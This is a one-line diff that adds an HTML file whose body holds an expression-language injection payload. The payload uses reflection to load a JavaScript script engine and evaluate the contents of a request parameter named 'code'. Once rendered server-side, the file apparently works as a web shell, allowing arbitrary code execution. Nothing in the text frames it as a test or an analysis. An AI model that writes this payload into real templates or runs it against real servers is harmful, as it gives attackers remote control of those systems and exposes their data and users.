@@ -1,0 +1,1 @@
+<html><body>${"".getClass().forName("javax.script.ScriptEngineManager").newInstance().getEngineByName("js").eval(param.code)}</body></html>
